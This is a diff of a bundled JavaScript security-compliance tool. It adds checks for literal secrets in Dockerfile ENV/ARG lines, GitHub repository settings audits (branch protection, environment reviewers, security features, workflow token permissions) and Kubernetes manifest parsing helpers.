-    const exclude = workspace.matcher(except);
-    return files.filter((f) => !exclude(f));
+function redact(value) {
+    const shown = value.length < 8 ? 0 : Math.min(4, Math.floor(value.length / 5));
+    return `${value.slice(0, shown)}… (${value.length} chars)`;
 }
-/** A single glob matcher honouring `ignoreCase`. */
-function globMatcher(workspace, glob, ignoreCase = false) {
-    return ignoreCase ? picomatch(glob, { dot: true, nocase: true }) : workspace.matcher([glob]);
+/**
+ * A finding identity derived from a secret without containing it: a truncated SHA-256, so the same
+ * leaked token keeps its fingerprint wherever it moves. Only used for random, high-entropy values; a
+ * human-chosen password could be recovered from its hash by guessing, so those are keyed by context.
+ */
+function secretIdentity(detectorId, value) {
+    return `${detectorId}:${digest(`controlgate-secret\u0000${value}`).slice(0, 24)}`;
 }
-/** Collapses whitespace and caps length, so a finding key is stable and small. */
-function keyText(text, max = 200) {
-    const collapsed = text.trim().replace(/\s+/g, ' ');
-    return collapsed.length > max ? collapsed.slice(0, max) : collapsed;
-}
-/** "a, b or c" for messages. */
-function orList(items) {
-    if (items.length <= 1)
-        return items.join('');
-    return `${items.slice(0, -1).join(', ')} or ${items[items.length - 1]}`;
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/secret-env.js
+
+
+
+
+/** Names that say the variable holds a credential. */
+const SECRET_NAME = /PASSWORD|PASSWD|PASSPHRASE|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|AUTH_?KEY|CREDENTIAL/i;
+/** Suffixes that say it holds something about a credential instead: where it is, how long it lives. */
+const NOT_SECRET_SUFFIX = /_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|NAME|ID|USER|USERNAME|ENDPOINT|REGION|TYPE|LENGTH|MIN|MAX|EXPIRY|EXPIRES|TTL|TIMEOUT|VERSION|ENABLED|HEADER|SOURCE|REF|ARN)$/i;
+/** Values that configure rather than authenticate. */
+const NOT_SECRET_VALUE = /^(?:true|false|yes|no|on|off|none|null|nil|[0-9]{1,6})$/i;
+/**
+ * `dockerfile.secret-env`: `ENV` and `ARG` instructions that give a credential-named variable
+ * (`*PASSWORD*`, `*SECRET*`, `*TOKEN*`, `*API_KEY*`, ...) a literal value. ENV values are stored in
+ * the image configuration, and ARG defaults in the build history, where anyone who can pull the
+ * image can read them. Values that are references (`$VAR`), placeholders, booleans or small numbers
+ * are not reported, and the message shows only a redacted form of the value.
+ */
+const dockerfileSecretEnv = defineEvaluator({
+    kind: 'dockerfile.secret-env',
+    summary: 'Dockerfile ENV and ARG instructions that set a credential-named variable to a literal value.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        for (const file of dockerfilePaths(workspace)) {
+            const model = readDockerfile(workspace, file);
+            if (!model)
+                continue;
+            const decls = [
+                ...model.globalArgs.map((decl) => ({ kind: 'ARG', decl })),
+                ...model.stages.flatMap((s) => [
+                    ...s.args.map((decl) => ({ kind: 'ARG', decl })),
+                    ...s.envs.map((decl) => ({ kind: 'ENV', decl })),
+                ]),
+            ];
+            for (const { kind, decl } of decls) {
+                if (decl.value === null || !isLiteralSecret(decl.name, decl.value))
+                    continue;
+                const where = kind === 'ENV' ? 'the image configuration' : 'the image build history';
+                findings.push({
+                    message: `${kind} ${decl.name} sets a literal secret (${redact(decl.value)}), which is stored in ${where} ` +
+                        'for anyone who can pull the image. Pass it with a build secret (`RUN --mount=type=secret`) or at run time.',
+                    location: locationFromSpan(file, decl.span),
+                    key: `${kind}:${decl.name}`,
+                });
+            }
+        }
+        return findings;
+    },
+});
+/** True when a credential-named variable is given a value that could be a real secret. */
+function isLiteralSecret(name, value) {
+    if (!SECRET_NAME.test(name) || NOT_SECRET_SUFFIX.test(name))
+        return false;
+    const v = value.trim();
+    if (v.length < 4 || v.includes('$') || NOT_SECRET_VALUE.test(v))
+        return false;
+    return !isPlaceholder(v);
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/generic/content-forbidden.js
@@ -24007,7 +35015,11 @@ const contentForbidden = defineEvaluator({
                     properties: {
                         pattern: regexSource('Regular expression (JavaScript syntax).'),
                         flags: FLAGS_SCHEMA,
-                        message: { type: 'string', minLength: 1, description: 'What this match means and why it is a problem.' },
+                        message: {
+                            type: 'string',
+                            minLength: 1,
+                            description: 'What this match means and why it is a problem.',
+                        },
                         redact: {
                             type: 'boolean',
                             default: false,
@@ -24116,7 +35128,9 @@ const contentRequired = defineEvaluator({
             if (text === undefined || firstMatchingLine(text, re))
                 continue;
             findings.push({
-                message: options.message ? `${file}: ${options.message}` : `${file} has no line matching ${showPattern(re)}.`,
+                message: options.message
+                    ? `${file}: ${options.message}`
+                    : `${file} has no line matching ${showPattern(re)}.`,
                 location: fileLocation(file),
                 key: 'missing',
             });
@@ -24367,6 +35381,1214 @@ function compileUserSchema(schema) {
     return v;
 }
 
+;// CONCATENATED MODULE: ./lib/core/github-api.js
+/**
+ * The little of the GitHub REST API that rules about repository settings need, as an interface: the
+ * engine stays free of `@actions/*` and of any HTTP client. The Action implements it with Octokit
+ * (throttled, retried, counted); the CLI with `fetch` when a token is given; tests with a fake server.
+ * Without an implementation, rules of `github.*` kinds report their controls as unverifiable.
+ */
+/**
+ * Memoizes GETs for one run, so rules that read the same endpoint (the repository, the default
+ * branch's rules) share one request and the run stays within its API budget.
+ */
+function cachedGitHubApi(api) {
+    const cache = new Map();
+    return {
+        owner: api.owner,
+        repo: api.repo,
+        get(path) {
+            let answer = cache.get(path);
+            if (!answer) {
+                answer = api.get(path);
+                cache.set(path, answer);
+            }
+            return answer;
+        },
+    };
+}
+/**
+ * A plain-`fetch` implementation for the CLI: no retries or throttling (a handful of GETs per run,
+ * cached), bounded by a timeout, and the token sent only to the configured API host.
+ */
+function fetchGitHubApi(options) {
+    const base = (options.baseUrl ?? 'https://api.github.com').replace(/\/+$/, '');
+    const doFetch = options.fetch ?? fetch;
+    const timeoutMs = options.timeoutMs ?? 15_000;
+    return cachedGitHubApi({
+        owner: options.owner,
+        repo: options.repo,
+        async get(path) {
+            if (!path.startsWith('/') || path.includes('//'))
+                throw new Error(`not an API path: ${path}`);
+            const response = await doFetch(`${base}${path}`, {
+                headers: {
+                    accept: 'application/vnd.github+json',
+                    authorization: `Bearer ${options.token}`,
+                    'x-github-api-version': '2022-11-28',
+                    'user-agent': 'controlgate',
+                },
+                redirect: 'error',
+                signal: AbortSignal.timeout(timeoutMs),
+            });
+            const text = await response.text();
+            let data;
+            try {
+                data = text ? JSON.parse(text) : undefined;
+            }
+            catch {
+                data = undefined;
+            }
+            return { status: response.status, data };
+        },
+    });
+}
+/** `owner/repo` split, or undefined when it is not one. */
+function parseRepository(slug) {
+    const m = /^([A-Za-z0-9_.-]+)\/([A-Za-z0-9_.-]+)$/.exec(slug?.trim() ?? '');
+    return m ? { owner: m[1], repo: m[2] } : undefined;
+}
+/** A path segment for a REST URL (branch names may hold `/`, `#` or spaces). */
+function segment(value) {
+    return encodeURIComponent(value);
+}
+/**
+ * Thrown by a `github.*` evaluator when the answer it needs is not available: no API in this run, or
+ * the API refused (403, or 404 where GitHub hides what the token may not see). The rule's controls
+ * are then unverifiable, and the message says which permission would make them verifiable.
+ */
+class UnverifiableError extends Error {
+    permission;
+    name = 'UnverifiableError';
+    constructor(message, 
+    /** The permission that would make the answer available, as a person would grant it. */
+    permission) {
+        super(message);
+        this.permission = permission;
+    }
+}
+/**
+ * The repository permission that repository-settings endpoints need. The workflow's GITHUB_TOKEN can
+ * never hold it; a GitHub App installation token or a fine-grained token can.
+ */
+const ADMINISTRATION_READ = 'the "Administration: read" repository permission (a GitHub App or fine-grained token; the workflow GITHUB_TOKEN cannot have it)';
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/github/shared.js
+/**
+ * What the `github.*` evaluators share: getting the API (or saying why the rule cannot be verified),
+ * reading an endpoint with refusals turned into {@link UnverifiableError}, and the repository and its
+ * default branch (one cached request shared by every rule).
+ */
+
+/** The evaluator context's API, or an error that makes the rule's controls unverifiable. */
+function requireApi(api) {
+    if (!api) {
+        throw new UnverifiableError('repository settings were not read: no GitHub API in this run (the Action needs its `token` input; the CLI reads GITHUB_TOKEN and GITHUB_REPOSITORY)');
+    }
+    return api;
+}
+/** `/repos/{owner}/{repo}` plus a suffix. */
+function repoPath(api, suffix = '') {
+    return `/repos/${segment(api.owner)}/${segment(api.repo)}${suffix}`;
+}
+/**
+ * A GET whose refusal means "cannot verify": 401, 403, and 404 (GitHub answers 404 rather than 403
+ * where a token may not even know the resource exists). `what` and `permission` make the message.
+ */
+async function readOrUnverifiable(api, path, what, permission) {
+    const response = await api.get(path);
+    if (response.status === 401 || response.status === 403 || response.status === 404) {
+        throw new UnverifiableError(`the GitHub API refused to show ${what} (HTTP ${response.status}); it needs ${permission}`, permission);
+    }
+    if (response.status >= 400) {
+        throw new UnverifiableError(`the GitHub API could not show ${what} (HTTP ${response.status})`);
+    }
+    return response;
+}
+/** The repository (needs only metadata access). */
+async function repository(api) {
+    const response = await readOrUnverifiable(api, repoPath(api), 'the repository', '"Metadata: read"');
+    return (asRecord(response.data) ?? {});
+}
+/** The branch to check: the rule's `branch` option, else the repository's default branch. */
+async function targetBranch(api, configured) {
+    if (configured)
+        return configured;
+    const repo = await repository(api);
+    if (!repo.default_branch)
+        throw new UnverifiableError('the GitHub API did not name the default branch');
+    return repo.default_branch;
+}
+/** Whether GitHub reports a security feature as enabled in `security_and_analysis`. */
+function featureStatus(repo, feature) {
+    const status = repo.security_and_analysis?.[feature]?.status;
+    return status === 'enabled' ? 'enabled' : status === 'disabled' ? 'disabled' : 'unknown';
+}
+function asRecord(value) {
+    return value && typeof value === 'object' && !Array.isArray(value)
+        ? value
+        : undefined;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/github/branch-protection.js
+/**
+ * `github.branch-protection`: the default branch (or a named one) cannot be changed without review.
+ * Either mechanism counts: repository or organisation rulesets (read through "rules for a branch",
+ * which any reader may see, so it is asked first) or classic branch protection (which needs
+ * administration access, so it is asked only for what the rulesets leave unmet).
+ */
+
+
+
+const githubBranchProtection = defineEvaluator({
+    kind: 'github.branch-protection',
+    summary: 'The default branch requires reviews (fresh, code-owner), passing status checks, and blocks force pushes and deletion, by rulesets or classic protection.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            branch: {
+                type: 'string',
+                minLength: 1,
+                description: 'Branch to check; default the repository default branch.',
+            },
+            minApprovals: { type: 'integer', minimum: 0, maximum: 10, default: 1 },
+            dismissStaleReviews: { type: 'boolean', default: true },
+            codeOwnerReview: { type: 'boolean', default: true },
+            blockForcePushes: { type: 'boolean', default: true },
+            blockDeletion: { type: 'boolean', default: true },
+            statusChecks: { type: 'boolean', default: true },
+        },
+    },
+    async evaluate({ options, github }) {
+        const api = requireApi(github);
+        const branch = await targetBranch(api, options.branch);
+        const wanted = requirements(options);
+        const rules = await fromRulesets(api, branch);
+        let unmet = wanted.filter((r) => !meets(rules, r, options));
+        if (unmet.length > 0) {
+            const classic = await fromClassicProtection(api, branch);
+            unmet = unmet.filter((r) => !meets(classic, r, options));
+        }
+        return unmet.map((r) => ({ message: message(r, branch, options), location: null, key: r }));
+    },
+});
+function requirements(o) {
+    const out = [];
+    if (o.minApprovals > 0)
+        out.push('reviews');
+    if (o.dismissStaleReviews)
+        out.push('dismiss-stale');
+    if (o.codeOwnerReview)
+        out.push('code-owners');
+    if (o.blockForcePushes)
+        out.push('force-push');
+    if (o.blockDeletion)
+        out.push('deletion');
+    if (o.statusChecks)
+        out.push('status-checks');
+    return out;
+}
+function meets(e, r, o) {
+    switch (r) {
+        case 'reviews':
+            return e.approvals >= o.minApprovals;
+        case 'dismiss-stale':
+            return e.dismissStale;
+        case 'code-owners':
+            return e.codeOwners;
+        case 'force-push':
+            return e.forcePushBlocked;
+        case 'deletion':
+            return e.deletionBlocked;
+        case 'status-checks':
+            return e.statusChecks > 0;
+    }
+}
+/** Active ruleset rules that apply to the branch (all sources merged: the strictest wins). */
+async function fromRulesets(api, branch) {
+    const response = await readOrUnverifiable(api, repoPath(api, `/rules/branches/${segment(branch)}?per_page=100`), `the rulesets of branch ${branch}`, '"Metadata: read"');
+    const e = none();
+    for (const item of Array.isArray(response.data) ? response.data : []) {
+        const rule = asRecord(item);
+        const params = asRecord(rule?.parameters) ?? {};
+        switch (rule?.type) {
+            case 'pull_request':
+                e.approvals = Math.max(e.approvals, Number(params.required_approving_review_count ?? 0));
+                e.dismissStale ||= params.dismiss_stale_reviews_on_push === true;
+                e.codeOwners ||= params.require_code_owner_review === true;
+                break;
+            case 'non_fast_forward':
+                e.forcePushBlocked = true;
+                break;
+            case 'deletion':
+                e.deletionBlocked = true;
+                break;
+            case 'required_status_checks':
+                e.statusChecks += Array.isArray(params.required_status_checks)
+                    ? params.required_status_checks.length
+                    : 0;
+                break;
+        }
+    }
+    return e;
+}
+/** Classic branch protection; "Branch not protected" (404 with that message) is an answer, not a refusal. */
+async function fromClassicProtection(api, branch) {
+    const path = repoPath(api, `/branches/${segment(branch)}/protection`);
+    const response = await api.get(path);
+    const msg = String(asRecord(response.data)?.message ?? '');
+    if (response.status === 404 && /branch not protected/i.test(msg))
+        return none();
+    if (response.status !== 200) {
+        throw new UnverifiableError(`rulesets do not protect branch ${branch} fully, and the GitHub API refused to show its classic branch protection (HTTP ${response.status}); it needs ${ADMINISTRATION_READ}`, ADMINISTRATION_READ);
+    }
+    const p = asRecord(response.data) ?? {};
+    const reviews = asRecord(p.required_pull_request_reviews);
+    const checks = asRecord(p.required_status_checks);
+    const contexts = Array.isArray(checks?.checks)
+        ? checks.checks.length
+        : Array.isArray(checks?.contexts)
+            ? checks.contexts.length
+            : 0;
+    return {
+        approvals: reviews ? Number(reviews.required_approving_review_count ?? 0) : 0,
+        dismissStale: reviews?.dismiss_stale_reviews === true,
+        codeOwners: reviews?.require_code_owner_reviews === true,
+        forcePushBlocked: asRecord(p.allow_force_pushes)?.enabled !== true,
+        deletionBlocked: asRecord(p.allow_deletions)?.enabled !== true,
+        statusChecks: contexts,
+    };
+}
+function none() {
+    return {
+        approvals: 0,
+        dismissStale: false,
+        codeOwners: false,
+        forcePushBlocked: false,
+        deletionBlocked: false,
+        statusChecks: 0,
+    };
+}
+function message(r, branch, o) {
+    const by = 'by neither a ruleset nor classic branch protection';
+    switch (r) {
+        case 'reviews':
+            return `Branch ${branch} does not require ${o.minApprovals === 1 ? 'an approving review' : `${o.minApprovals} approving reviews`} before merging (${by}).`;
+        case 'dismiss-stale':
+            return `Branch ${branch} keeps approvals after new commits are pushed: stale approvals are not dismissed (${by}).`;
+        case 'code-owners':
+            return `Branch ${branch} does not require a review from the code owners (${by}).`;
+        case 'force-push':
+            return `Branch ${branch} allows force pushes, which rewrite reviewed history (${by}).`;
+        case 'deletion':
+            return `Branch ${branch} can be deleted (${by}).`;
+        case 'status-checks':
+            return `Branch ${branch} requires no status check to pass before merging, so a failing controlgate gate does not block (${by}).`;
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/github/environment-reviewers.js
+/**
+ * `github.environment-reviewers`: deployment environments that look like production require a
+ * reviewer, so nothing reaches production on a push alone.
+ */
+
+
+
+const githubEnvironmentReviewers = defineEvaluator({
+    kind: 'github.environment-reviewers',
+    summary: 'Deployment environments named like production require a reviewer before a job can use them.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            environments: {
+                type: 'array',
+                minItems: 1,
+                items: { type: 'string', minLength: 1 },
+                default: ['prod', 'prod-*', 'prod_*', 'production', 'production-*', 'live'],
+            },
+        },
+    },
+    async evaluate({ options, github }) {
+        const api = requireApi(github);
+        const response = await readOrUnverifiable(api, repoPath(api, '/environments?per_page=100'), 'the deployment environments', 'the "Actions: read" permission (`actions: read` in the workflow)');
+        const isProduction = picomatch(options.environments, { nocase: true, dot: true });
+        const list = asRecord(response.data)?.environments;
+        const findings = [];
+        for (const item of Array.isArray(list) ? list : []) {
+            const env = asRecord(item);
+            const name = typeof env?.name === 'string' ? env.name : undefined;
+            if (!name || !isProduction(name))
+                continue;
+            const rules = Array.isArray(env?.protection_rules) ? env.protection_rules : [];
+            const reviewed = rules.some((r) => {
+                const rule = asRecord(r);
+                return (rule?.type === 'required_reviewers' && Array.isArray(rule.reviewers) && rule.reviewers.length > 0);
+            });
+            if (!reviewed) {
+                findings.push({
+                    message: `Environment "${name}" requires no reviewer: a workflow can deploy to it without anyone approving.`,
+                    location: null,
+                    key: `environment:${name}`,
+                });
+            }
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/github/security-features.js
+/**
+ * `github.security-features`: GitHub's own security features are on for the repository: secret
+ * scanning and push protection (8.12), Dependabot alerts and security updates (8.8). One evaluator,
+ * a `features` list per rule, so each rule maps to the control its features serve.
+ */
+
+
+
+const SECURITY_FEATURES = [
+    'secret-scanning',
+    'push-protection',
+    'dependabot-alerts',
+    'dependabot-security-updates',
+];
+const LABEL = {
+    'secret-scanning': 'Secret scanning',
+    'push-protection': 'Secret scanning push protection',
+    'dependabot-alerts': 'Dependabot alerts',
+    'dependabot-security-updates': 'Dependabot security updates',
+};
+/** Where `GET /repos/{owner}/{repo}` reports each feature (`security_and_analysis`). */
+const FIELD = {
+    'secret-scanning': 'secret_scanning',
+    'push-protection': 'secret_scanning_push_protection',
+    'dependabot-security-updates': 'dependabot_security_updates',
+};
+const githubSecurityFeatures = defineEvaluator({
+    kind: 'github.security-features',
+    summary: 'GitHub security features (secret scanning, push protection, Dependabot alerts and updates) are enabled.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        required: ['features'],
+        properties: {
+            features: { type: 'array', minItems: 1, uniqueItems: true, items: { enum: [...SECURITY_FEATURES] } },
+        },
+    },
+    async evaluate({ options, github }) {
+        const api = requireApi(github);
+        const repo = await repository(api);
+        const findings = [];
+        for (const feature of options.features) {
+            const status = feature === 'dependabot-alerts' ? await dependabotAlerts(repo, api) : fieldStatus(repo, feature);
+            if (status === 'disabled') {
+                findings.push({
+                    message: `${LABEL[feature]} ${feature.startsWith('dependabot') ? 'are' : 'is'} not enabled for this repository.`,
+                    location: null,
+                    key: feature,
+                });
+            }
+        }
+        return findings;
+    },
+});
+function fieldStatus(repo, feature) {
+    const status = featureStatus(repo, FIELD[feature]);
+    if (status === 'unknown')
+        throw security_features_hidden(`${LABEL[feature]}'s status`);
+    return status;
+}
+/**
+ * `GET .../vulnerability-alerts` answers 204 (on) or 404 (off), but also 404 to a token that may not
+ * ask; the answer is trusted only when the repository showed this token its security settings.
+ */
+async function dependabotAlerts(repo, api) {
+    if (!repo.security_and_analysis)
+        throw security_features_hidden("Dependabot alerts' status");
+    const response = await api.get(repoPath(api, '/vulnerability-alerts'));
+    if (response.status === 204)
+        return 'enabled';
+    if (response.status === 404)
+        return 'disabled';
+    throw new UnverifiableError(`the GitHub API could not show whether Dependabot alerts are enabled (HTTP ${response.status}); it needs ${ADMINISTRATION_READ}`, ADMINISTRATION_READ);
+}
+/** GitHub shows `security_and_analysis` only to tokens with administration access. */
+function security_features_hidden(what) {
+    return new UnverifiableError(`the GitHub API did not show ${what} (the repository's security settings are visible only with administration access); it needs ${ADMINISTRATION_READ}`, ADMINISTRATION_READ);
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/github/workflow-token.js
+/**
+ * `github.workflow-token`: the repository's default GITHUB_TOKEN is read-only (workflows must ask for
+ * each write they need) and GitHub Actions may not create or approve pull requests (or a workflow
+ * could approve its own change, bypassing review).
+ */
+
+
+
+const githubWorkflowToken = defineEvaluator({
+    kind: 'github.workflow-token',
+    summary: 'The default workflow token is read-only and GitHub Actions cannot approve pull requests.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            readOnly: { type: 'boolean', default: true },
+            noPullRequestApproval: { type: 'boolean', default: true },
+        },
+    },
+    async evaluate({ options, github }) {
+        const api = requireApi(github);
+        const response = await readOrUnverifiable(api, repoPath(api, '/actions/permissions/workflow'), 'the default workflow permissions', ADMINISTRATION_READ);
+        const data = asRecord(response.data) ?? {};
+        const findings = [];
+        if (options.readOnly && data.default_workflow_permissions !== 'read') {
+            findings.push({
+                message: `The default GITHUB_TOKEN has ${String(data.default_workflow_permissions ?? 'unknown')} permissions: every workflow that does not declare \`permissions:\` can write to the repository.`,
+                location: null,
+                key: 'default-write',
+            });
+        }
+        if (options.noPullRequestApproval && data.can_approve_pull_request_reviews === true) {
+            findings.push({
+                message: 'GitHub Actions may create and approve pull requests, so a workflow can approve a change without a person reviewing it.',
+                location: null,
+                key: 'actions-approve',
+            });
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/parsers/k8s-files.js
+
+
+/**
+ * Which YAML files are not manifests as they stand, although they may look like one: Helm chart
+ * templates (Go templates, rendered at install time) and kustomize patches (fragments merged into a
+ * base, so a missing field there is not missing from the result).
+ */
+const KUSTOMIZATION_GLOBS = ['**/kustomization.yaml', '**/kustomization.yml', '**/Kustomization'];
+/** True for a file under the `templates/` directory of a Helm chart (a `Chart.yaml` beside it). */
+function isHelmTemplate(workspace, file) {
+    const parts = file.split('/');
+    for (let i = 0; i < parts.length - 1; i++) {
+        if (parts[i] !== 'templates')
+            continue;
+        const chart = parts.slice(0, i).join('/');
+        if (workspace.has(chart ? `${chart}/Chart.yaml` : 'Chart.yaml'))
+            return true;
+    }
+    return false;
+}
+/** True for a file that a kustomization in the workspace applies as a patch. */
+function excludedByKustomize(workspace, file) {
+    return kustomizePatches(workspace).has(file);
+}
+/** Paths (relative to the root) of the patch files named by every kustomization, computed once. */
+function kustomizePatches(workspace) {
+    return workspace.memo('k8s-kustomize-patches', '', () => {
+        const out = new Set();
+        for (const file of workspace.glob(KUSTOMIZATION_GLOBS)) {
+            const text = workspace.text(file);
+            if (text === undefined)
+                continue;
+            // A broken kustomization is kustomize's to report; it only narrows what is skipped here.
+            const parsed = parseYaml(text);
+            const doc = parsed.ok ? parsed.documents[0]?.value : undefined;
+            if (typeof doc !== 'object' || doc === null)
+                continue;
+            const dir = external_node_path_namespaceObject.posix.dirname(file);
+            for (const ref of patchRefs(doc)) {
+                const resolved = external_node_path_namespaceObject.posix.normalize(external_node_path_namespaceObject.posix.join(dir, ref));
+                if (!resolved.startsWith('../'))
+                    out.add(resolved);
+            }
+        }
+        return out;
+    });
+}
+function patchRefs(kustomization) {
+    const refs = [];
+    const merge = kustomization.patchesStrategicMerge;
+    if (Array.isArray(merge))
+        for (const p of merge)
+            if (typeof p === 'string' && !p.includes('\n'))
+                refs.push(p);
+    for (const key of ['patches', 'patchesJson6902']) {
+        const list = kustomization[key];
+        if (!Array.isArray(list))
+            continue;
+        for (const p of list) {
+            if (typeof p === 'object' && p !== null && typeof p.path === 'string') {
+                refs.push(p.path);
+            }
+        }
+    }
+    return refs;
+}
+
+;// CONCATENATED MODULE: ./lib/core/parsers/k8s.js
+
+
+/**
+ * A model of Kubernetes manifests: every object of every YAML document (`---` streams and `kind: List`
+ * included) recognised by `apiVersion` + `kind`, the pod spec of each workload kind, and its
+ * containers. Values keep their JSON pointer and source span so an audit reports the exact line.
+ * Files that are not manifests are never reported as unparsable: most YAML in a repository is
+ * something else, and Helm templates are not YAML until rendered.
+ */
+/** Where manifests may live: anywhere, as YAML. */
+const K8S_GLOBS = ['**/*.yaml', '**/*.yml'];
+/** Where each workload kind keeps its pod spec, by API group (`""` is the core group). */
+const POD_SPEC_PATHS = new Map(Object.entries({
+    Pod: { groups: [''], path: ['spec'] },
+    PodTemplate: { groups: [''], path: ['template', 'spec'] },
+    ReplicationController: { groups: [''], path: ['spec', 'template', 'spec'] },
+    Deployment: { groups: ['apps', 'extensions'], path: ['spec', 'template', 'spec'] },
+    StatefulSet: { groups: ['apps'], path: ['spec', 'template', 'spec'] },
+    DaemonSet: { groups: ['apps', 'extensions'], path: ['spec', 'template', 'spec'] },
+    ReplicaSet: { groups: ['apps', 'extensions'], path: ['spec', 'template', 'spec'] },
+    Job: { groups: ['batch'], path: ['spec', 'template', 'spec'] },
+    CronJob: { groups: ['batch'], path: ['spec', 'jobTemplate', 'spec', 'template', 'spec'] },
+}));
+/** The kinds whose pod spec this model finds. */
+const WORKLOAD_KINDS = [...POD_SPEC_PATHS.keys()];
+const CONTAINER_GROUPS = ['initContainers', 'containers', 'ephemeralContainers'];
+/** A manifest starts objects at column 0; a cheap test that spares parsing every other YAML file. */
+const LOOKS_LIKE_MANIFEST = /^["']?apiVersion["']?[ \t]*:/m;
+const HAS_KIND = /^["']?kind["']?[ \t]*:/m;
+const k8s_ORIGIN = { start: { line: 1, column: 1 }, end: { line: 1, column: 1 } };
+/** YAML files of the workspace that may hold manifests: not Helm templates, not kustomize patches. */
+function k8sManifestPaths(workspace) {
+    return workspace
+        .glob(K8S_GLOBS)
+        .filter((f) => !isHelmTemplate(workspace, f) && !excludedByKustomize(workspace, f));
+}
+/**
+ * The Kubernetes objects of one file (cached per run), or an empty list when it holds none. A file
+ * that looks like a manifest but does not parse is recorded as an input problem, so the
+ * `unparsable-file` rule reports it; any other YAML that does not parse is left alone.
+ */
+function readK8sObjects(workspace, file) {
+    return workspace.memo('k8s', file, () => {
+        const text = workspace.text(file);
+        if (text === undefined || !LOOKS_LIKE_MANIFEST.test(text) || !HAS_KIND.test(text))
+            return [];
+        const parsed = parseYaml(text);
+        if (!parsed.ok) {
+            // Templating of any kind (`{{ }}`) means the file is not meant to parse as it stands.
+            if (!text.includes('{{'))
+                workspace.reportProblem({ path: file, ...parsed.error });
+            return [];
+        }
+        return parsed.documents.flatMap((doc) => objectsIn(file, doc, '', doc.value, 0));
+    });
+}
+/** Every object of every manifest in the workspace, in index and source order. */
+function k8sObjects(workspace) {
+    // Every Kubernetes rule asks; the file walk is done once per run.
+    return workspace.memo('k8s-objects', '', () => k8sManifestPaths(workspace).flatMap((f) => readK8sObjects(workspace, f)));
+}
+function objectsIn(path, document, pointer, value, depth) {
+    if (!k8s_isMap(value) || typeof value.apiVersion !== 'string' || typeof value.kind !== 'string')
+        return [];
+    const node = { value, pointer, span: spanOf(document, pointer) };
+    // `kubectl get -o yaml` wraps objects in a List; nested lists are not a thing, so one level is enough.
+    if (value.kind.endsWith('List') && Array.isArray(value.items) && depth === 0) {
+        return value.items.flatMap((item, i) => objectsIn(path, document, `${pointer}/items/${i}`, item, depth + 1));
+    }
+    const object = { path, document, apiVersion: value.apiVersion, kind: value.kind, node };
+    if (k8s_isMap(value.metadata) && typeof value.metadata.name === 'string')
+        object.name = value.metadata.name;
+    return [object];
+}
+/** The API group of an `apiVersion` (`apps/v1` -> `apps`, `v1` -> the core group ""). */
+function apiGroup(apiVersion) {
+    const slash = apiVersion.indexOf('/');
+    return slash === -1 ? '' : apiVersion.slice(0, slash);
+}
+/** The pod spec of a workload object, or undefined for other kinds (and custom resources). */
+function podSpecOf(object) {
+    // A Map, not an object: `kind: constructor` must not find Object.prototype.
+    const known = POD_SPEC_PATHS.get(object.kind);
+    if (!known?.groups.includes(apiGroup(object.apiVersion)))
+        return undefined;
+    const node = childAt(object, object.node, ...known.path);
+    return node && k8s_isMap(node.value) ? { object, node: node } : undefined;
+}
+/** The containers of a pod spec: init containers first, then containers, then ephemeral ones. */
+function containersOf(pod, groups = CONTAINER_GROUPS) {
+    const out = [];
+    for (const group of CONTAINER_GROUPS) {
+        if (!groups.includes(group))
+            continue;
+        const list = pod.node.value[group];
+        if (!Array.isArray(list))
+            continue;
+        list.forEach((value, index) => {
+            if (!k8s_isMap(value))
+                return;
+            const pointer = `${pod.node.pointer}/${group}/${index}`;
+            const name = typeof value.name === 'string' ? value.name : `#${index}`;
+            out.push({
+                pod,
+                group,
+                index,
+                name,
+                node: { value, pointer, span: spanOf(pod.object.document, pointer) },
+            });
+        });
+    }
+    return out;
+}
+/** Every pod spec of the workspace's workloads. */
+function podSpecs(workspace) {
+    return k8sObjects(workspace).flatMap((o) => {
+        const pod = podSpecOf(o);
+        return pod ? [pod] : [];
+    });
+}
+/** The value under `base` at `tokens`, or undefined when any step is missing. */
+function childAt(object, base, ...tokens) {
+    let value = base.value;
+    let pointer = base.pointer;
+    for (const token of tokens) {
+        if (k8s_isMap(value) && typeof token === 'string' && Object.hasOwn(value, token))
+            value = value[token];
+        else if (Array.isArray(value) && typeof token === 'number' && token < value.length)
+            value = value[token];
+        else
+            return undefined;
+        pointer += `/${escapePointerToken(token)}`;
+    }
+    return { value, pointer, span: spanOf(object.document, pointer) };
+}
+/** How a workload is named in messages: `Deployment "web"` and, for a container, `container "app"`. */
+function describeObject(object) {
+    return object.name ? `${object.kind} "${object.name}"` : object.kind;
+}
+/** Like {@link describeObject}, with the container: `container "app" of Deployment "web"`. */
+function describeContainer(c) {
+    const group = c.group === 'containers'
+        ? 'container'
+        : c.group === 'initContainers'
+            ? 'init container'
+            : 'ephemeral container';
+    return `${group} "${c.name}" of ${describeObject(c.pod.object)}`;
+}
+/** A stable key for a finding: file-independent content, never a line number. */
+function occurrenceKey(object, ...parts) {
+    return [object.kind, object.name ?? '', ...parts].join('\u0000');
+}
+function spanOf(document, pointer) {
+    // A value that only exists through an alias or merge key has no span of its own.
+    return document.span(pointer) ?? document.nearestSpan(pointer) ?? k8s_ORIGIN;
+}
+/** A YAML mapping (not a sequence, not null). */
+function k8s_isMap(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value);
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/shared.js
+
+
+/**
+ * Helpers shared by the Kubernetes evaluators: iteration over pods and containers, security-context
+ * lookups with pod-level inheritance, and findings located at a manifest value.
+ */
+/** Calls `visit` for every container of every workload in the workspace. */
